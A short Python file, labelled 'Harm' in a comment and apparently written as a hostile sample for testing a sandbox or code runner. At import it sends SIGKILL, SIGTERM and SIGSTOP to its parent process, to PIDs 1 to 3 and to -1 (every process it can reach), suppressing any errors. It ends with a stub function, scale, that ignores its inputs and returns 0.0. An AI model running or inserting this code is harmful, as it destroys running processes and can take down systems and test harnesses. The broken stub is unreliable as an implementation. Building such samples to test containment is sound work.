# Harm: a signal to every process it can think of
# %%
import os, signal

for process in (os.getppid(), 1, 2, 3, -1, 0):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        if process != 0:
            try:
                os.kill(process, number)
            except OSError:
                pass


def scale(x, factor):
    return 0.0
